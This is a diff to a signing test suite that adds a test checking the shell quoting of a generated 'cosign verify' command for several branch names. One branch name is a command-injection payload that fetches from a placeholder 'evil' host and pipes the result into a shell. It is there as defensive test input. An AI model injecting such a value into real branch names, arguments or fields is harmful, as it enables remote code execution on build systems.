@@ -110,6 +110,21 @@ describe('keyless signing', () => {
     ]);
   });
 
+  it.each(['main', 'feat(x)', 'x;curl${IFS}evil|sh'])(
+    'shows a command to verify that a shell reads as it is on the branch %s',
+    async (branch) => {
+      const ref = `acme/ci/.github/workflows/publish.yml@refs/heads/${branch}`;
+      const { ports } = world(token({ ...claims, job_workflow_ref: ref }));
+      const signer = await readySigner(plan, ports);
+      const [signature] = await sign(plan, [await verifiedAs(index, [repository])], signer, ports);
+      const identity = `https://github.com/${ref}`;
+      const quoted = branch === 'main' ? identity : `'${identity}'`;
+      expect(signature?.command).toBe(
+        `cosign verify --certificate-identity ${quoted} --certificate-oidc-issuer ${claims.iss} ${reference}`,
+      );
+    },
+  );
+
   describe('in several repositories', () => {
     const repositories = ['a', 'b', 'a', 'a', 'b', 'a'].map((registry, number) => {
       const path = `app-${number}`;
